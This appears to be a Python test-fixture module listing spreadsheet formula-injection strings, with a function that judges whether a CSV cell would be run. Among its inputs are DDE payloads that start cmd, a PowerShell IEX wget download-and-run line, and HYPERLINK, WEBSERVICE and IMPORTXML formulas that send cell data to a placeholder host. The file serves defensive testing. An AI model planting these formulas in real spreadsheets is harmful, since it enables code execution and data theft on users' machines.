"""Texts that a spreadsheet program would run, or take for something else than a text; all invented."""

from __future__ import annotations

CALC = "cmd|' /C calc'!A0"
_PLAIN = (
    "=1+1",
    "=A1",
    f"={CALC}",
    f"+{CALC}",
    f"-{CALC}",
    f"@{CALC}",
    "+86 13800000000",
    "-2+3",
    "@SUM(1+1)",
)
_CALLS = (
    '=HYPERLINK("http://example.invalid/?leak="&A2,"click")',
    '=HYPERLINK("file:///etc/hosts")',
    '=WEBSERVICE("http://example.invalid/"&A1)',
    '=IMPORTXML(CONCAT("http://example.invalid/?",A1:E1),"//a")',
    '=IMPORTDATA("http://example.invalid/")',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    '@SUM(1+9)*cmd|" /C calc"!A0',
    "=cmd|'/C powershell IEX(wget example.invalid)'!A0",
    '=IF(1=1,"a","b")',
    '=RTD("a",,"b")',
    '=INDIRECT("A1")',
    "{=SUM(A1:A9)}",
    "=-1+1",
    "=+1",
    "-+=1",
)
_BEFORE = ("\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\t\t+1", "\t text", " =1+1", "   -1+1", "\u00a0=1+1")
_UNSEEN = ("\u3000=1+1", "\u2003@A1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\u2060+1", "\u00ad=1+1")
_WIDE = ("＝1+1", "＋1", "－1", "＠A1", "\u3000＝1+1", "﹦1+1", "−1+cmd")
_QUOTED = ("'=1+1", "''=1+1", "' =1+1", '"=1+1"', '"=1+1","=2+2"', "=1+1,=2+2", "' text", 'a"\n=1+1')
FORMULAS: tuple[str, ...] = (*_PLAIN, *_CALLS, *_BEFORE, *_UNSEEN, *_WIDE, *_QUOTED)
"""Signs, calls and links, controls and blanks before them, wide forms, quotes."""

SIGNS = "=+-@\t\r\n"
_PASSED_OVER = {chr(number) for number in (*range(0x0B, 0x0D), 0xAD, 0x61C, 0x180E, *range(0x2000, 0x2010))}
_PASSED_OVER |= {chr(number) for number in (*range(0x2028, 0x2030), *range(0x205F, 0x2070), 0x3000, 0xFEFF)}
_PASSED_OVER |= {" ", "\u00a0"}


def live(cell: str) -> bool:
    """Whether a spreadsheet program that opens a CSV may run this cell, judged as the most careless would:
    blanks and unseen signs are passed over, wide forms are read as narrow ones."""
    from unicodedata import normalize

    first = next((sign for sign in cell if sign not in _PASSED_OVER), "")
    return normalize("NFKC", first)[:1] in tuple(SIGNS) or first == "−"
